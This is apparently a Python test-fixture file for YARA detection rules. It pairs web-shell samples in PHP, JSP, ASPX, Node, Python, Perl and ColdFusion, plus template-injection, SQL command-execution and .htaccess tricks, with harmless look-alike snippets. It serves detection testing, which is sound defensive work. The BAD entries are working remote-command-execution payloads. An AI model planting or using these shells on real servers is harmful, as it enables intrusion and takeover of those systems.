"""Samples of web shells, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-WEB-0027": [
        joined("{{ self.__init__.__glo¦bals__['os'].popen('id') }}"),
        joined("{% for c in ''.__class__.__mro__[1].__subc¦lasses__() %}"),
    ],
    "RG-WEB-0028": [
        joined('<beans><bean id="p" class="java.lang.Process¦Builder" init-method="start"/></beans>'),
        joined('<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/ja¦va/java.lang.Runtime"/>'),
        joined("<xsl:value-of select=\"php:fun¦ction('system', 'id')\"/>"),
    ],
    "RG-WEB-0029": [
        joined("COPY t FROM PROG¦RAM 'id';"),
        joined("EXEC master..xp_cm¦dshell 'id';"),
    ],
    "RG-WEB-0001": [
        joined('<?p¦hp @ev¦a¦l($_POST["c"]); ?>'),
        joined("<¦?= shel¦l_ex¦ec($_GET['c']) ?>"),
        joined("<?p¦hp asser¦t(b¦a¦s¦e¦6¦4_d¦e¦c¦o¦d¦e($_COOKIE['x']));"),
    ],
    "RG-WEB-0002": [
        joined("<?p¦hp ev¦al(gzinflat¦e(bas¦e64_decode('§b200§')));"),
    ],
    "RG-WEB-0003": [
        joined('<¦% Runtime.getRuntime().ex¦ec(r¦equest.ge¦tParameter("c¦md")); %>'),
        joined('<¦% new ProcessBuilder("s¦h", "-c", request.ge¦tParameter("c")).start(); %>'),
    ],
    "RG-WEB-0004": [
        joined('<¦%@ P¦age Language="Jscript"%><¦% ev¦al(Requ¦es¦t.Item["z"]) %>'),
    ],
    "RG-WEB-0006": [
        joined("<?p¦hp $_GE¦T['a']($_POST['b']);"),
        joined("<?p¦hp array_ma¦p($_REQUEST['f'], $x);"),
    ],
    "RG-WEB-0007": [
        joined('<¦%eval req¦uest("x")%>'),
        joined('<¦%@ ev¦al(Requ¦es¦t.It¦em["x"],"unsafe");%>'),
        joined("<¦% execute(req¦uest('cmd')) %>"),
    ],
    "RG-WEB-0008": [
        joined('<?p¦hp preg_replac¦e("/.*/e", $_POST["c"], ""); ?>'),
        joined("<?p¦hp $f = create_functio¦n('', $_REQUEST['c']); $f();"),
    ],
    "RG-WEB-0009": [
        joined("<?p¦hp file_put_contents($_POS¦T['n'], bas¦e64_decode($_POST['d'])); ?>"),
        joined("<?p¦hp file_put_content¦s(d¦i¦r¦n¦a¦m¦e(__F¦I¦L¦E__).'/'.$_GET['n'], $_GET['d']);"),
    ],
    "RG-WEB-0010": [
        joined('<?p¦hp $f = "\\x62\\x61\\x73\\x¦65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65"; $g = $f($x);'),
        joined('<?p¦hp $k = "\\x65\\x7¦6\\x61\\x6c";'),
    ],
    "RG-WEB-0011": [
        joined("AddType applicatio¦n/x-httpd-php .jpg\n"),
        joined('<FilesMatch "x">\nAddHandler ph¦p5-script .png\n</FilesMatch>\n'),
        joined('php_value auto_prepend_fil¦e "/v¦a¦r/w¦w¦w/uploads/logo.gif"\n'),
    ],
    "RG-WEB-0012": [
        joined("<?p¦hp $f = chr(97).chr(115).chr(11¦5).ch¦r(101).chr(114).chr(116); $f($_P¦OST['x']);"),
    ],
    "RG-WEB-0013": [
        joined(
            "<?p¦hp\n"
            "// tools\n"
            "$a = ini_get('disable_f¦unctions'); $u = posix_g¦etpwuid(1); echo php_u¦name();\n"
            "move_uplo¦aded_file($f, $t); readfile('/etc/p¦asswd'); pass¦thru($c); shel¦l_exec($c);\n"
            "$s = ini_get('saf¦e_mode'); file¦perms($f); pro¦c_open($c, $d, $p);\n"
        ),
    ],
    "RG-WEB-0014": [
        joined(
            "<¦% Class c = new L().define¦Class(d, 0, "
            'd.length); Cipher k = Cipher.getI¦nstance("A'
            'ES"); d = k.doFinal(new '
            "BASE64¦Decoder().decode¦Buffer(request.g¦etReader().readLine())); %>"
        ),
    ],
    "RG-WEB-0015": [
        joined(
            "<¦% new java.io.FileOutputStream(application"
            '.getRealPath("/") + req¦uest.ge¦tParameter("'
            'f")).write(request.ge¦tParameter("t").getBytes()); %>'
        ),
    ],
    "RG-WEB-0016": [
        joined(
            '<¦%@ P¦age Language="C#" %><¦% '
            "Assembl¦y.Load(Convert.FromBase¦64String(Req"
            'u¦est["p"])).CreateI¦nstance("U").Equals(this); %>'
        ),
    ],
    "RG-WEB-0017": [
        joined(
            '<¦%@ P¦age Language="C#" %><¦% var p = new '
            'ProcessS¦tartInfo("cm¦d.exe", "/c " + Reques¦t.Form["c"]); Proces¦s.Start(p); %>'
        ),
    ],
    "RG-WEB-0018": [
        joined("app.get('/x', (req, res) => res.send(ev¦al(re¦q.query.c)));"),
        joined("exec¦Syn¦c(req.body.cmd)"),
    ],
    "RG-WEB-0019": [
        joined("return os.popen(r¦equest.args.get('c')).read()"),
        joined("exec(req¦uest.form['x'])"),
    ],
    "RG-WEB-0020": [
        joined('<cfexecute name="c¦m¦d.e¦x¦e" a¦rguments="/c #form.cmd#" timeout="5"></cfexecute>'),
    ],
    "RG-WEB-0021": [
        joined("#!/usr/bin/perl\nus¦e CGI;\nmy $q = CGI->new;\nprint system($q->p¦aram('cmd'));\n"),
        joined("us¦e CGI qw(:standard);\nexec pa¦ram('c');\n"),
    ],
    "RG-WEB-0022": [
        joined("<?p¦hp ec¦ho `$_GE¦T[c]`; ?>"),
        joined("<?p¦hp $out = `nice {$_REQ¦UEST['c']} 2>&1`; print $out;"),
    ],
    "RG-WEB-0023": [
        joined('<¦%@ page pageEnc¦oding="cp0¦37"%>Lo'),
        joined("<¦%@ Page Language='JScript' CodeP¦age='650¦00' %>+ADw-"),
        joined('<jsp:direc¦tive.page contentType="text/html; char¦set=UTF-1¦6LE"/>'),
    ],
    "RG-WEB-0024": [
        joined("const { exec } = require('child_pro¦cess');\napp.get('/', (req, res) => ex¦ec(req.qu¦ery.c));\n"),
        joined("require('child_pro¦cess').ex¦ec(require('url').pa¦rse(req.u¦rl, true).query.cmd)\n"),
    ],
    "RG-WEB-0025": [
        joined("<?p¦hp incl¦ude($_GE¦T['page']);"),
        joined("<?p¦hp require_o¦nce $_REQ¦UEST['m'];"),
    ],
    "RG-WEB-0026": [
        joined("<?p¦hp $f = 'sy¦s'.'tem'; $f($_GE¦T['c']); ?>"),
        joined('<?p¦hp\n$a = "ass" . "er" . "t";\n\n@$a($_PO¦ST[\'p\']);\n'),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-WEB-0027": [b"{{ user.name }} {% for name in names %}{{ name }}{% endfor %}\nf = module.__globals__\n"],
    "RG-WEB-0028": [
        b'<beans><bean id="p" class="java.lang.String"/></beans>',
        b"<xsl:value-of select=\"php:function('strtoupper', 'a')\"/>",
    ],
    "RG-WEB-0029": [b"COPY t FROM '/srv/data.csv' CSV; -- no program\n", b"EXEC sp_configure 'xp_cmdshell', 0;\n"],
    "RG-WEB-0001": [
        joined("<?p¦hp $name = htmlspecialchars($_POST['name']); echo $name; ?>"),
        joined("Never write ev¦a¦l($_POST[...]) in a page."),
        joined("<?p¦hp if (isset($_GET['c'])) { exec('ls'); }"),
    ],
    "RG-WEB-0002": [
        joined("<?p¦hp $data = gzinflate(bas¦e64_decode($stored)); echo $data;"),
    ],
    "RG-WEB-0003": [
        joined('<¦% String name = request.ge¦tParameter("name"); %>'),
        joined('Runtime.getRuntime().ex¦ec("ls");'),
    ],
    "RG-WEB-0004": [
        joined('<¦%@ P¦age Language="C#" %><¦%# Eval("Name") %>'),
    ],
    "RG-WEB-0006": [
        joined("<?p¦hp array_map('trim', $_POST['lines']); $f($_G¦ET['a']);"),
        joined("<?p¦hp $rows = array_filter($_POST['rows']);"),
    ],
    "RG-WEB-0007": [
        joined('<¦%= request("name") %>'),
        joined('<¦% name = request.form("name") %>'),
    ],
    "RG-WEB-0008": [
        joined('<?p¦hp $text = preg_replace("/[^a-z]/i", "", $_POST["name"]); ?>'),
        joined("<?p¦hp $f = create_function('$a', 'return $a;');"),
    ],
    "RG-WEB-0009": [
        joined("<?p¦hp file_put_contents($cache, serialize($rows)); ?>"),
        joined("<?p¦hp file_put_contents('/var/log/form.txt', $_POST['comment']);"),
    ],
    "RG-WEB-0010": [
        joined('<?p¦hp $bom = "\\xef\\xbb\\xbf"; $tab = "\\x09";'),
        joined('$k = "\\x65\\x7¦6\\x61\\x6c"; without a PHP tag'),
    ],
    "RG-WEB-0011": [
        joined("AddType application/x-httpd-php .php .phtml\n"),
        joined("AddType image/jpeg .jpg\n"),
        joined('php_value auto_prepend_file "/var/www/lib/prepend.php"\n'),
    ],
    "RG-WEB-0012": [
        joined("<?p¦hp $eol = chr(13).chr(10); echo $_POST['x'].$eol;"),
        joined("<?p¦hp $page = $vie¦w($_GET['page']);"),
    ],
    "RG-WEB-0013": [
        joined(
            "<?p¦hp\n"
            "$ok = move_uplo¦aded_file($f, $t); echo "
            "php_u¦name(); $p = file¦perms($f); // no shel¦l_exec here\n"
        ),
    ],
    "RG-WEB-0014": [
        joined('<¦% byte[] d = Base64.getDe¦coder().decode(request.ge¦tParameter("token")); %>'),
        joined(
            "class Loader extends ClassLoader { Class load(byte[] d) { return define¦Class(null, d, 0, d.length); } }"
        ),
    ],
    "RG-WEB-0015": [
        joined('<¦% new FileOutputStream(log).write(line.getBytes()); String n = request.ge¦tParameter("name"); %>'),
    ],
    "RG-WEB-0016": [
        joined(
            '<¦%@ P¦age Language="C#" %><¦% var a = Assembl¦y.Load("Company.Reports"); var q = Requ¦est["page"]; %>'
        ),
    ],
    "RG-WEB-0017": [
        joined(
            '<¦%@ P¦age Language="C#" %><¦% var p = '
            'Proces¦s.Start("convert.exe", file); var n = Reques¦t.Form["name"]; %>'
        ),
    ],
    "RG-WEB-0018": [
        joined("app.get('/x', (req, res) => res.send(escape(req.query.c)));"),
        joined("const id = String(req.params.id);"),
    ],
    "RG-WEB-0019": [
        joined("return render(request.args.get('page'))"),
        joined("subprocess.r¦un(['convert', request_file])"),
    ],
    "RG-WEB-0020": [
        joined(
            '<cfexecute name="backup.exe" arguments="/daily" timeout="5"></cfexecute><cfoutput>#form.name#</cfoutput>'
        ),
    ],
    "RG-WEB-0021": [
        joined("#!/usr/bin/perl\nus¦e CGI;\nmy $q = CGI->new;\nmy $n = $q->param('cmd');\nsystem('date');\n"),
    ],
    "RG-WEB-0022": [
        joined("<?p¦hp $rows = query(\"SELECT `name` FROM `users` WHERE `id` = \" . (int) $_GE¦T['id']);"),
        joined("<?p¦hp $out = `uptime`; echo $_GE¦T['c'];"),
    ],
    "RG-WEB-0023": [
        joined('<¦%@ page pageEnc¦oding="UTF-8" contentType="text/html; char¦set=UTF-8"%>'),
        joined("<¦%@ Page Language='C#' CodeP¦age='65001' %>"),
        joined("<¦%@ Page Language='C#' CodeP¦age='932' %>"),
    ],
    "RG-WEB-0024": [
        joined("const { exec } = require('child_pro¦cess');\napp.get('/', (req, res) => ex¦ec('uptime'));\n"),
        joined("const match = pattern.ex¦ec(req.qu¦ery.c);\n"),
    ],
    "RG-WEB-0025": [
        joined("<?p¦hp incl¦ude(__DIR__ . '/page.php'); echo htmlspecialchars($_GE¦T['page']);"),
    ],
    "RG-WEB-0026": [
        joined("<?p¦hp $name = 'page' . '_title'; echo htmlspecialchars($_GE¦T['c']);"),
        joined("<?p¦hp $f = 'trim'; $x = $f($_GE¦T['c']);"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
